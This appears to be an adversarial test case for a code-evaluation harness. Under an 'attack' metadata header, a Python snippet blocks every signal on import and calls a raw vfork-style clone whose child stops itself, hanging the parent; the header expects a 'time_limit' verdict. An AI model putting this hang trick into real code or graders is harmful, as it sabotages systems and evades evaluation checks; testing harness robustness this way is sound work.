# /// attack
# slow = true
# tries = "waits in vfork for a child that is stopped, with every signal blocked, in its import"
# keeps = ["gpt.load", "scan.tiled"]
# verdicts = { "matmul.forward" = "time_limit" }
# ///
import ctypes as _ctypes
import signal as _signal

_signal.pthread_sigmask(_signal.SIG_BLOCK, range(1, 65))
_libc = _ctypes.CDLL(None)
_libc.syscall(56, 0x4000 | 0x100 | 17, 0, 0, 0, 0) or _libc.kill(_libc.getpid(), 19)  # CLONE_VFORK | CLONE_VM
